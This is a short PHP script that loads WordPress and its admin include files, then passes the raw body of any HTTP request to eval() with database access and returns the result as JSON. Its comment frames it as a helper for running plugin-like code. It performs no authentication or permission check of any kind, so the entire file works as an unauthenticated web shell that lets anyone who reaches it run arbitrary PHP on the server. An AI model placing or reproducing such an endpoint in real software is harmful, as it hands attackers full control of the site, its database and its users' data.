<?php
// Runs the PHP that is posted, as the code of a plugin, a theme or an importer would run.
require __DIR__ . '/wp-load.php';
foreach (['post', 'file', 'media', 'image', 'taxonomy'] as $part) {
    require_once ABSPATH . "wp-admin/includes/$part.php";
}
$code = file_get_contents('php://input');
$value = (static function () use ($code) {
    global $wpdb;
    return eval($code);
})();
if (is_wp_error($value)) {
    $value = ['errors' => $value->get_error_messages()];
}
header('Content-Type: application/json');
echo json_encode($value);
